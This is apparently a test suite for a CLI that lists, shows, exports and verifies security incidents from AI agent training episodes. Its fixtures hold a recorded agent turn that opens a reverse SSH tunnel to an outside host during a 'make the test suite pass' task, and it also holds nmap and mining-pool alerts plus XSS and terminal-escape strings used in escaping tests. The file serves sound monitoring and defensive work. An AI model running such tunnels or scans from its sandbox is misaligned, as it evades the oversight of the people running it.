import { spawnSync } from "node:child_process";
import { generateKeyPairSync } from "node:crypto";
import { chmod, mkdir, readFile, rm, writeFile } from "node:fs/promises";
import { join, resolve } from "node:path";
import { DatabaseSync } from "node:sqlite";
import { sha256 } from "@ale/core";
import type { Incident } from "@ale/guard";
import { initialRunState } from "@ale/roll";
import { describe, expect, it } from "vitest";
import {
  alertOf,
  beginOf,
  logText,
  T0,
  type Timed,
  tunnelEpisode,
  turnOf,
} from "../../guard/test/recorded.ts";
import { sinceMs } from "../src/commands/guard-incidents.ts";
import { EXIT } from "../src/exit-codes.ts";
import { attachmentOf } from "../src/report/evidence.ts";
import { ale, ROUND, recordEpisode, temporaryHome } from "./support.ts";

/** A log on disk, as its run would have left it. */
async function record(
  home: string,
  run: string,
  id: string,
  timed: readonly Timed[],
  startMs = T0,
  seal = true,
) {
  const folder = join(home, "runs", run, "episodes");
  await mkdir(folder, { recursive: true });
  const path = join(folder, `${id}.jsonl`);
  await writeFile(path, logText(startMs, timed, seal));
  return path;
}

async function night(): Promise<{ home: string; path: string }> {
  const home = await temporaryHome();
  const path = await record(home, "night", "ep_night", tunnelEpisode());
  const quiet = turnOf(0, "ls", "a\n");
  await record(
    home,
    "day",
    "ep_day",
    [
      [0, beginOf("ep_day", T0 + 86_400_000, "day")],
      [10, quiet.says],
      [11, quiet.calls],
      [12, quiet.sees],
      [
        13,
        alertOf({
          rule: "network-scan",
          chunk: 0,
          severity: "low",
          callId: "call_0",
          evidence: { command: "nmap x" },
        }),
      ],
    ],
    T0 + 86_400_000,
  );
  return { home, path };
}

interface Listed {
  readonly incidents: readonly Incident[];
  readonly total: number;
}
const listed = async (home: string, ...options: string[]): Promise<readonly Incident[]> =>
  ((await ale(home, "guard", "incidents", "--json", ...options)).json() as unknown as Listed).incidents;

describe("ale guard incidents", () => {
  it("lists one line an attempt, the newest first", async () => {
    const { home } = await night();
    const { stdout, exitCode } = await ale(home, "guard", "incidents");
    expect(exitCode).toBe(EXIT.ok);
    const rules = stdout
      .split("\n")
      .flatMap((line) => /^inc_\w{12} .*? (network-scan|mining-pool-name|tunnel-ssh) /.exec(line)?.[1] ?? []);
    expect(rules).toEqual(["network-scan", "mining-pool-name", "tunnel-ssh"]);
    expect(stdout).toContain("3 incidents in 2 episodes");
    expect(stdout).toMatch(/critical +tunnel-ssh +ep_night:1 +ssh -fN -R/);
  });

  it.each([
    [["--run", "day"], ["network-scan"]],
    [["--min-severity", "critical"], ["tunnel-ssh"]],
    [["--since", "2026-03-02"], ["network-scan"]],
    [["--limit", "1"], ["network-scan"]],
  ])("filters by %j", async (options, expected) => {
    const { home } = await night();
    expect((await listed(home, ...options)).map(({ rule }) => rule)).toEqual(expected);
  });

  it("reads spans and dates, and refuses anything else", () => {
    expect(sinceMs("12h", 1e9)).toBe(1e9 - 12 * 3.6e6);
    expect(sinceMs("2026-03-01T04:00Z", 0)).toBe(Date.UTC(2026, 2, 1, 4));
    expect(() => sinceMs("yesterday", 0)).toThrow("neither a time span nor a date");
  });

  it("says which log it could not read, and with its exit code that something is missing", async () => {
    const { home, path } = await night();
    await writeFile(path, (await readFile(path, "utf8")).replace("critical", "low"));
    const { stdout, exitCode } = await ale(home, "guard", "incidents");
    expect(exitCode).toBe(EXIT.failed);
    expect(stdout).toMatch(/unread night\/ep_night: .*line 12 is broken \(bad-hash\)/);
    expect(stdout).toContain("network-scan");
  });

  const linesOf = async (path: string): Promise<string[]> =>
    (await readFile(path, "utf8")).trimEnd().split("\n");
  const rewrite = async (path: string, change: (lines: string[]) => string[]): Promise<void> =>
    writeFile(
      path,
      change(await linesOf(path))
        .map((line) => `${line}\n`)
        .join(""),
    );
  /** Of the night's state: the log was evaluated, or learnt from with this last hash. */
  const witnessed = async (home: string, head: string | null): Promise<void> => {
    const state = initialRunState("night", "0".repeat(64), "/model");
    const rounds = head === null ? [] : [{ ...ROUND, episodes: [{ episode: "ep_night", head }] }];
    await writeFile(join(home, "runs/night/state.json"), JSON.stringify({ ...state, rounds }));
  };

  type Damage = [what: string, change: (lines: string[]) => string[], why: RegExp];
  const damages: Damage[] = [
    [
      "one letter",
      (lines) => lines.map((line, i) => (i === 3 ? line.replace("a", "b") : line)),
      /line 4 is broken/,
    ],
    [
      "an earlier format",
      (lines) => lines.map((line) => line.replace('"v":1}', '"v":0}')),
      /line 1\b.*the line is in format version 0/,
    ],
    ["an emptied log", () => [], /it has no lines, and had \d+ when it was read before/],
    ["a missing seal", (lines) => lines.slice(0, -1), /lines were cut off at the end/],
  ];
  it.each(damages)(
    "names a log that was damaged after it was read, by %s, again and again",
    async (_, change, why) => {
      const { home, path } = await night();
      const before = await listed(home);
      await rewrite(path, change);
      for (const _sitting of ["first", "second"]) {
        const outcome = await ale(home, "guard", "incidents", "--json");
        expect(outcome.exitCode).toBe(EXIT.failed);
        const unsound = [{ run: "night", id: "ep_night", state: "damaged", why: expect.stringMatching(why) }];
        expect(outcome.json()).toMatchObject({ ok: false, incidents: before, unsound });
      }
      const id = before.find(({ episode }) => episode === "ep_night")!.id;
      const show = await ale(home, "guard", "show", id);
      expect(show.exitCode).toBe(EXIT.failed);
      expect((show.stdout + show.stderr).replace(/\s+/g, " ")).toMatch(why);
      expect(show.stderr).not.toMatch(/delete|index\.sqlite/);
      const verified = await ale(home, "guard", "verify", id);
      expect(verified.exitCode).toBe(EXIT.failed);
      expect(verified.stdout).toMatch(why);
    },
  );

  const MAIN = resolve(import.meta.dirname, "../src/main.ts");
  const asNobody = (...words: string[]) =>
    spawnSync(process.execPath, words, { encoding: "utf8", uid: 65_534, gid: 65_534 });
  const canBeNobody =
    process.getuid?.() === 0 &&
    asNobody("-e", `require("node:fs").readFileSync(${JSON.stringify(MAIN)})`).status === 0;

  it.skipIf(!canBeNobody)(
    "is read by whoever may read the logs, and says what may not be read",
    async () => {
      const { home, path } = await night();
      await chmod(home, 0o755);
      const seen = (...words: string[]) => asNobody(MAIN, "--home", home, "guard", ...words);
      // Without an index; then with one that only another may write.
      expect(seen("incidents")).toMatchObject({
        status: EXIT.ok,
        stderr: expect.not.stringContaining("error"),
      });
      await listed(home);
      await chmod(path, 0o600);
      const some = seen("incidents");
      expect(some).toMatchObject({
        status: EXIT.failed,
        stdout: expect.stringMatching(/tunnel-ssh[\s\S]*^unread night\/ep_night: .*permission denied$/m),
      });
      const tunnel = /inc_\w+(?=.*tunnel-ssh)/.exec(some.stdout)![0];
      expect(seen("show", tunnel).stderr).toMatch(/permission denied\n.*its owner can make it readable/);
      await chmod(join(home, "runs/night"), 0o700);
      expect(seen("incidents").stderr).toMatch(/runs\/night\/episodes cannot be read: EACCES/);
    },
    120_000,
  );

  it("names a log that its run knows otherwise, or that is gone, without having read it before", async () => {
    const { home, path } = await night();
    await witnessed(home, "0".repeat(64));
    const unsound = async () => (await ale(home, "guard", "incidents", "--json")).json().unsound;
    const night1 = { run: "night", id: "ep_night" };
    expect(await unsound()).toMatchObject([
      { ...night1, state: "damaged", why: /the run learnt from 000000000000/ },
    ]);
    await rm(path);
    expect(await unsound()).toMatchObject([{ ...night1, state: "gone" }]);
  });

  it("does not believe an index that says more than the log", async () => {
    const { home } = await night();
    const [{ id }] = (await listed(home, "--run", "day")) as [Incident];
    const db = new DatabaseSync(join(home, "runs/day/index.sqlite"));
    db.exec("UPDATE alert SET hash = 'f' || substr(hash, 2) || 'f'");
    db.close();
    const [{ id: forged }] = (await listed(home, "--run", "day")) as [Incident];
    expect(forged).not.toBe(id);
    const { exitCode, stderr } = await ale(home, "guard", "show", forged);
    expect([exitCode, stderr]).toEqual([
      EXIT.failed,
      expect.stringMatching(/the index beside the run says so\nnext: .*ale guard verify/),
    ]);
  });

  it("shows, and hands over, an incident of a log that was cut, and says so", async () => {
    const { home, path } = await night();
    const [{ hash: head }] = (await linesOf(path))
      .slice(-1)
      .map((line) => JSON.parse(line) as { hash: string }) as [{ hash: string }];
    await witnessed(home, head);
    const [tunnel] = (await listed(home, "--min-severity", "critical")) as [Incident];
    await rm(join(home, "runs/night/index.sqlite"));
    await rewrite(path, (lines) => lines.slice(0, -1));
    const cut = "the run used it sealed, and its seal is gone: lines were cut off at the end";
    const shown = await ale(home, "guard", "show", tunnel.id);
    expect(shown.exitCode).toBe(EXIT.failed);
    expect(shown.stdout).toContain(`it does not hold: ${cut}`);
    const out = join(home, "e.html");
    const handed = await ale(home, "guard", "export", tunnel.id, "--out", out);
    expect([handed.exitCode, handed.stderr]).toEqual([EXIT.failed, expect.stringContaining(cut)]);
    expect(await readFile(out, "utf8")).toContain(cut);
    // Also where the run is not.
    const elsewhere = await ale(await temporaryHome(), "guard", "verify", out);
    expect(elsewhere).toMatchObject({
      exitCode: EXIT.failed,
      stdout: expect.stringContaining(`fails  witness    when it was made: ${cut}`),
    });
  });

  it("makes what an agent wrote harmless for a terminal", async () => {
    const home = await temporaryHome();
    const turn = turnOf(0, "printf '\u001b[2J'\r", "\u009b31mred\u202etxt");
    await record(home, "r", "ep_x", [
      [0, beginOf("ep_x", T0, "r")],
      [1, turn.says],
      [2, turn.calls],
      [3, turn.sees],
      [
        4,
        alertOf({
          rule: "a",
          chunk: 0,
          severity: "high",
          callId: "call_0",
          evidence: { command: "printf '\u001b[2J'\r" },
        }),
      ],
    ]);
    const [{ id }] = (await listed(home)) as [Incident];
    for (const words of [["incidents"], ["show", id]]) {
      const { stdout } = await ale(home, "guard", ...words);
      // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what must not be there
      expect(stdout).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202e]/);
      expect(stdout).toContain("␛[2J");
    }
  });
});

describe("ale guard show", () => {
  it("follows the alarm to the command, the process and the packets, and to what the model wrote before", async () => {
    const { home } = await night();
    const [tunnel] = (await listed(home, "--min-severity", "critical")) as [Incident];
    const { stdout } = await ale(home, "guard", "show", tunnel.id);
    const order = [
      `${tunnel.id}  CRITICAL  tunnel-ssh  T1572`,
      "An SSH client or server speaks where nothing may pass",
      "ep_night, run night",
      "23 ms from the first packet",
      "submitted, reward 1",
      "What it had read (bash)",
      "cc -o a a.c",
      "What it wrote",
      "I open one.",
      "$ ssh -fN -R 2222:localhost:22 root@198.51.100.7; echo done",
      "4100",
      "└─ 4210  ssh -fN -R",
      "◀ alert",
      "tcp 198.51.100.7:22  refused (default)",
      "SSH-2.0-OpenSSH",
      "warn (tunnel-ssh)",
      "sealed, chain intact",
      `ale guard export ${tunnel.id}`,
    ];
    const places = order.map((text) => stdout.indexOf(text));
    expect(places).not.toContain(-1);
    expect(places).toEqual([...places].sort((a, b) => a - b));
  });

  it("fits 80 columns", async () => {
    const { home } = await night();
    let stdout = "";
    const { runCli } = await import("../src/cli.ts");
    const out = { write: (text: string) => (stdout += text), columns: 80 };
    await runCli(
      { argv: ["guard", "show", "last"], env: { ALE_HOME: home }, stdout: out, stderr: { write: () => 0 } },
      new AbortController().signal,
    );
    // The path of the log is the machine's.
    const long = stdout
      .replaceAll(home, "~")
      .split("\n")
      .filter((line) => [...line].length > 80);
    expect(long).toEqual([]);
    expect(stdout).toContain("network-scan");
  });

  it("finds by the beginning of an id, and says what is probably meant", async () => {
    const { home } = await night();
    const [, miner] = (await listed(home)) as [Incident, Incident];
    const shown = await ale(home, "guard", "show", miner.id.slice(0, 9), "--json");
    expect(shown.json()).toMatchObject({
      incident: { id: miner.id, during: [3], names: [{ allowed: false }] },
    });
    const unknown = await ale(home, "guard", "show", "inc_zz");
    expect(unknown.exitCode).toBe(EXIT.usage);
    expect(unknown.stderr).toContain("ale guard incidents lists them");
  });
});

async function exported(): Promise<{ home: string; log: string; html: string; json: string; id: string }> {
  const { home, path } = await night();
  const [tunnel] = (await listed(home, "--min-severity", "critical")) as [Incident];
  const out = join(home, "evidence");
  const { exitCode } = await ale(home, "guard", "export", tunnel.id, "--out", out);
  expect(exitCode).toBe(EXIT.ok);
  return {
    home,
    log: path,
    html: join(out, `${tunnel.id}.html`),
    json: join(out, `${tunnel.id}.json`),
    id: tunnel.id,
  };
}

const findings = async (home: string, ...words: string[]) => {
  const outcome = await ale(home, "guard", "verify", ...words, "--json");
  const { findings: found } = outcome.json() as {
    findings: { what: string; result: string; detail: string }[];
  };
  return {
    exitCode: outcome.exitCode,
    found: Object.fromEntries(found.map(({ what, result }) => [what, result])),
    all: found,
  };
};

describe("ale guard export", () => {
  it("writes a page that asks for nothing, and the same as data within and beside it", async () => {
    const { html, json } = await exported();
    const page = await readFile(html, "utf8");
    expect(page).toContain(`content="default-src 'none'; style-src 'unsafe-inline'"`);
    expect(page).not.toMatch(/<script|<iframe|<img|<link|\bsrc=|https?:\/\/|@import|url\(/i);
    expect(attachmentOf(page)).toEqual({ ok: true, json: await readFile(json, "utf8") });
    expect(page).toContain(sha256(await readFile(json)));
  });

  it("says what the rule looks for, what the task was, and what happened on one clock", async () => {
    const { html } = await exported();
    const page = await readFile(html, "utf8");
    expect(page).toContain("<h1>An SSH client or server speaks where nothing may pass</h1>");
    expect(page).toContain("The capture sink read an SSH banner of a connection that policy refused.");
    expect(page).toContain('<p class="instruction">make the test suite pass</p>');
    const words = (lane: string) =>
      [...page.matchAll(new RegExp(`<li class="of-${lane}">.*?<span class="what">(.*?) <small>`, "g"))].map(
        (match) => match[1],
      );
    expect(words("command")).toEqual(["bash: ssh -fN -R 2222:localhost:22 root@198.51.100.7; echo done"]);
    expect(words("packet")).toEqual([
      "net.connect tcp 198.51.100.7:22",
      "net.deny tcp 198.51.100.7:22 (default)",
      "net.capture tcp 198.51.100.7:22 (ssh)",
    ]);
    expect(words("alert")).toEqual(["tunnel-ssh, critical", "ssh-tunnel, high"]);
    for (const lane of ["command", "record", "packet", "alert", "answer"])
      expect(page.match(new RegExp(`<g class="moment of-${lane}">`, "g")), lane).toHaveLength(2);
  });

  it("escapes what the agent wrote", async () => {
    const home = await temporaryHome();
    const evil = `</pre><script>alert(1)</script><a href="data:application/json;base64,AAAA">x</a>\u202e\u001b[2J\u200b`;
    const turn = turnOf(0, evil, evil, { text: evil });
    await record(home, "r", "ep_x", [
      [0, beginOf("ep_x", T0, "r")],
      [1, turn.says],
      [2, turn.calls],
      [3, turn.sees],
      [4, alertOf({ rule: "a", chunk: 0, severity: "high", callId: "call_0", evidence: { command: evil } })],
    ]);
    const file = join(home, "e.html");
    await ale(home, "guard", "export", "last", "--out", file);
    const page = await readFile(file, "utf8");
    // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what must not be there
    expect(page).not.toMatch(/<script|[\u0000-\u0008\u000b-\u001f\u007f\u200b\u202e]|unreadable/);
    expect(page).toContain("&lt;script&gt;alert(1)");
    expect((await findings(home, file)).exitCode).toBe(EXIT.ok);
  });

  it("can be checked without this program, as its page says", async () => {
    const { html, json, home } = await exported();
    const page = await readFile(html, "utf8");
    const [, commands = ""] = /<pre>(jq -r[\s\S]*?)<\/pre>/.exec(page) ?? [];
    const script = commands
      .replaceAll("&quot;", '"')
      .replaceAll("&#39;", "'")
      .replaceAll("&lt;", "<")
      .replaceAll("&gt;", ">")
      .replaceAll("&amp;", "&");
    const { stdout, stderr, status } = spawnSync("bash", ["-c", script], { cwd: join(home, "evidence") });
    expect([`${stderr}`, status]).toEqual(["", 0]);
    const hashes = `${stdout}`
      .trim()
      .split("\n")
      .map((line) => line.split(" ")[0]);
    const bundle = JSON.parse(await readFile(json, "utf8")) as {
      log: { sha256: string; head: string };
      chain: string[];
    };
    expect(hashes).toEqual([bundle.log.sha256, ...bundle.chain]);
    expect(hashes.at(-1)).toBe(bundle.log.head);
  });
});

describe("ale guard verify", () => {
  it("tells that a bundle holds against itself, its page and the log here", async () => {
    const { home, html, json } = await exported();
    const page = await findings(home, html);
    expect(page).toMatchObject({
      exitCode: EXIT.ok,
      found: {
        page: "holds",
        digest: "holds",
        "whole log": "holds",
        story: "holds",
        log: "holds",
        witness: "open",
      },
    });
    expect((await findings(home, json)).exitCode).toBe(EXIT.ok);
  });

  it("tells what is not here", async () => {
    const { json, log } = await exported();
    const elsewhere = await temporaryHome();
    expect((await findings(elsewhere, json)).found).toMatchObject({ log: "open", story: "holds" });
    expect((await findings(elsewhere, json, "--log", log)).found).toMatchObject({ log: "holds" });
  });

  it("asks the run's state whether the log is the one that it used", async () => {
    const { home, json, id } = await exported();
    const { head } = (JSON.parse(await readFile(json, "utf8")) as { log: { head: string } }).log;
    const witnessed = async (hash: string): Promise<void> => {
      const state = initialRunState("night", "0".repeat(64), "/model");
      const rounds = [{ ...ROUND, episodes: [{ episode: "ep_night", head: hash }] }];
      await writeFile(join(home, "runs/night/state.json"), JSON.stringify({ ...state, rounds }));
    };
    await witnessed(head);
    expect((await findings(home, json)).found).toMatchObject({ witness: "holds" });
    expect((await findings(home, id)).found).toEqual({
      chain: "holds",
      seal: "holds",
      witness: "holds",
      incident: "holds",
    });
    await witnessed("0".repeat(64));
    expect(await findings(home, json)).toMatchObject({ exitCode: EXIT.failed, found: { witness: "fails" } });
  });

  it("shows a page that was changed, and a bundle that was changed", async () => {
    const { home, html, json } = await exported();
    await writeFile(html, (await readFile(html, "utf8")).replace("I open one.", "I open none."));
    expect(await findings(home, html)).toMatchObject({
      exitCode: EXIT.failed,
      found: { page: "fails", story: "holds" },
    });
    await writeFile(json, (await readFile(json, "utf8")).replaceAll("198.51.100.7", "198.51.100.8"));
    expect(await findings(home, json)).toMatchObject({
      exitCode: EXIT.failed,
      found: { digest: "fails", lines: "fails" },
    });
    await writeFile(json, "{}");
    expect(await findings(home, json)).toMatchObject({ exitCode: EXIT.failed, found: { bundle: "fails" } });
  });

  it("tells by whose key a bundle was signed", async () => {
    const home = await temporaryHome();
    await record(home, "night", "ep_night", tunnelEpisode());
    const { privateKey, publicKey } = generateKeyPairSync("ed25519");
    const [secret, known] = [join(home, "key.pem"), join(home, "key.pub.pem")];
    await writeFile(secret, privateKey.export({ type: "pkcs8", format: "pem" }));
    await writeFile(known, publicKey.export({ type: "spki", format: "pem" }));
    const page = join(home, "signed.html");
    await ale(home, "guard", "export", "last", "--out", page, "--sign-key", secret);
    expect(await findings(home, page, "--public-key", known)).toMatchObject({
      exitCode: EXIT.ok,
      found: { page: "holds", digest: "holds", signature: "holds" },
    });
    const unsigned = join(home, "unsigned.html");
    await ale(home, "guard", "export", "last", "--out", unsigned);
    expect((await findings(home, unsigned)).found).toMatchObject({ signature: "open" });
    expect(await findings(home, unsigned, "--public-key", known)).toMatchObject({
      exitCode: EXIT.failed,
      found: { signature: "fails" },
    });
    expect((await ale(home, "guard", "export", "last", "--sign-key", known)).exitCode).toBe(EXIT.usage);
    expect((await ale(home, "guard", "verify", "ep_night", "--public-key", known)).exitCode).toBe(EXIT.usage);
  });

  it("names the first broken line of a log, and why", async () => {
    const { home, path } = await night();
    expect(await findings(home, path)).toMatchObject({ exitCode: EXIT.ok, found: { chain: "holds" } });
    const text = await readFile(path, "utf8");
    await writeFile(path, text.replace("I open one", "I open two"));
    const { exitCode, all } = await findings(home, path);
    expect(exitCode).toBe(EXIT.failed);
    expect(all[0]!.detail).toMatch(/line 6 is broken \(bad-hash\)/);
    await writeFile(path, text.slice(0, -20));
    expect((await findings(home, path)).all[0]!.detail).toContain("is torn");
  });

  it("means by last the newest incident, as show does, and says what it looked at", async () => {
    const { home } = await night();
    // The newest episode has no incident.
    const quiet = await recordEpisode(home, "day", { id: "ep_quiet" });
    const [newest] = (await listed(home)) as [Incident];
    const outcome = await ale(home, "guard", "verify", "last");
    expect(outcome.stdout.split("\n")[0]).toBe(
      `${join(home, "runs/day/episodes/ep_day.jsonl")} (${newest.id} is of it)`,
    );
    expect(outcome.stdout).toMatch(
      new RegExp(`^holds +incident +${newest.id}: its alerts are there, line 5$`, "m"),
    );
    expect((await ale(home, "episodes", "verify", "last", "--json")).json()).toMatchObject({ logs: 1 });
    expect((await ale(home, "guard", "verify", "ep_quiet")).stdout.split("\n")[0]).toBe(quiet);
  });

  it.each([
    ["an empty log", "empty.jsonl", EXIT.failed, /^fails +chain +there is nothing in .*empty\.jsonl$/m],
    ["a folder", ".", EXIT.usage, /^error: .* is a folder: it holds no log and no bundle$/m],
    ["a device", "/dev/null", EXIT.usage, /^error: \/dev\/null is a device or a pipe, not a file/m],
    ["a file that is not there", "no/log.jsonl", EXIT.usage, /^error: there is no file .*no\/log\.jsonl$/m],
    ["a bundle that is not there", "no.html", EXIT.usage, /^error: there is no file .*no\.html$/m],
    [
      "what is no log",
      "words.jsonl",
      EXIT.failed,
      /line 1 is broken \(bad-line\): not a line of an episode log: it is a list/,
    ],
  ])("says in words what is wrong with %s", async (_, target, exitCode, said) => {
    const home = await temporaryHome();
    await writeFile(join(home, "empty.jsonl"), "");
    await writeFile(join(home, "words.jsonl"), "[]\n");
    const outcome = await ale(home, "guard", "verify", resolve(home, target));
    expect(outcome.stdout + outcome.stderr).toMatch(said);
    expect(outcome.exitCode).toBe(exitCode);
  });

  it("never calls a log whole whose seal was cut off", async () => {
    const home = await temporaryHome();
    const path = await recordEpisode(home, "run", { id: "ep_x" });
    expect((await findings(home, path)).found).toMatchObject({ chain: "holds", seal: "holds" });
    const lines = (await readFile(path, "utf8")).trimEnd().split("\n");
    await writeFile(path, `${lines.slice(0, -1).join("\n")}\n`);
    // Whoever read it before knows.
    expect((await findings(home, path)).found).toMatchObject({ seal: "open", witness: "fails" });
    await rm(join(home, "runs/run/index.sqlite"));
    const outcome = await ale(home, "guard", "verify", path);
    expect(outcome.exitCode).toBe(EXIT.ok);
    expect(outcome.stdout).toMatch(
      /^open +seal +not sealed: the end may be missing, .*; its last line is a verdict of 20/m,
    );
    expect(outcome.stdout).toMatch(
      /^what is there holds; it is not sealed, so that its end may be missing$/m,
    );
    const strict = await ale(home, "guard", "verify", path, "--sealed", "--json");
    expect(strict.exitCode).toBe(EXIT.failed);
    expect(strict.json()).toMatchObject({ ok: false, sealed: false });
  });
});

describe("the help", () => {
  it("names every verb of guard, and folds them in the overview", async () => {
    const home = await temporaryHome();
    const { stdout } = await ale(home, "guard", "--help");
    for (const verb of [
      "incidents",
      "show",
      "export",
      "verify",
      "import",
      "rules",
      "explain",
      "test",
      "approvals",
    ])
      expect(stdout).toContain(`guard ${verb} `);
    expect((await ale(home, "--help")).stdout).toMatch(/guard … +incidents/);
  });
});
